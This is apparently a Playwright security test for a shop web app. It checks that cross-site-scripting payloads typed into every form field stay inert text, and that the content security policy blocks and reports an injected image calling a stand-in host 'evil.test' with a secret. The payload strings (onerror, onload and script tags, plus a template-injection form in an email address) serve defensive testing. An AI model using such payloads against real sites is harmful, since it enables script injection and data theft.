/** Whatever somebody types, it is text: every field of every page takes a script, and none runs. */
import { expect, type Page, test } from './fixtures.ts';
import { addToCart, painted, settled, signUp } from './visit.ts';

const SCRIPT = `"'><img src=x onerror=alert(1)><svg onload=alert(2)><script>alert(3)</script>`;
/** As an address of e-mail that a browser lets pass, by its form alone. */
const SCRIPT_ADDRESS = "'onload='alert(4)'{{alert(5)}}@example.com";
const FIELDS = 'input:not([type=checkbox],[type=radio],[type=hidden],[type=submit],[type=button]), textarea';

const PUBLIC = [
  '/',
  '/shop/search?query=lamp',
  '/shop/products/LMP-DOM-02',
  '/shop/cart',
  '/account/sign-in',
  '/account/sign-up',
  '/account/forgot-password',
  '/account/reset-password#token',
];
const OF_A_PERSON = ['/shop/checkout', '/account', '/account/orders'];

/** Types the script into each field of a page, with all the others too, and sends it off. Answers how many there were. */
async function attack(page: Page, path: string): Promise<number> {
  await page.goto(path);
  await settled(page);
  const count = await page.locator(FIELDS).filter({ visible: true }).count();
  for (let sent = 0; sent < count; sent++) {
    if (sent > 0) {
      await page.goto(path);
      await settled(page);
    }
    const fields = page.locator(FIELDS).filter({ visible: true });
    // The one that is sent comes last: a search leads on by itself soon after it is typed.
    const others = [...Array(count).keys()].filter((index) => index !== sent);
    for (const index of [...others, sent]) {
      const field = fields.nth(index);
      const kind = await field.getAttribute('type');
      // A search is shown as it is typed, and the page is another.
      if (kind === 'search' && index !== sent) continue;
      await field.fill(kind === 'email' ? SCRIPT_ADDRESS : SCRIPT);
    }
    await fields.nth(sent).press('Enter');
    await painted(page);
    await settled(page);
    const made = await page
      .locator('img[src="x"], svg[onload], [onerror], script:not([src]):has-text("alert")')
      .count();
    expect(made, `${path}, field ${sent}: what was typed became a part of the page`).toBe(0);
  }
  return count;
}

/** row: S-17 */
test('a script typed into any field stays text', async ({ page, expects }) => {
  test.slow();
  expects.push(/SignIn.*4\d\d/, /SignUp.*4\d\d/, /RequestPasswordReset.*4\d\d/, /ResetPassword.*4\d\d/);
  expects.push(/ChangePassword.*4\d\d/, /status of 4\d\d/);
  const ran: string[] = [];
  page.on('dialog', (dialog) => {
    ran.push(dialog.message());
    void dialog.dismiss();
  });
  let fields = 0;
  for (const path of PUBLIC) fields += await attack(page, path);
  await page.context().clearCookies();
  await signUp(page);
  await addToCart(page, 'LMP-DOM-02');
  for (const path of OF_A_PERSON) fields += await attack(page, path);
  expect(fields, 'fields there are').toBeGreaterThan(15);
  expect(ran).toEqual([]);
});

/** row: S-17 */
test('what the policy forbids is not done, and told', async ({ page, expects }) => {
  expects.push(/content security policy/i, /ERR_BLOCKED_BY_CSP/);
  await page.goto('/');
  await settled(page);
  const told = page.waitForRequest((request) => request.url().endsWith('/csp-reports'));
  await page.evaluate(() => {
    const picture = document.createElement('img');
    picture.src = 'https://evil.test/pixel?secret';
    document.body.append(picture);
  });
  const request = await told;
  expect((await request.response())?.status()).toBe(204);
});
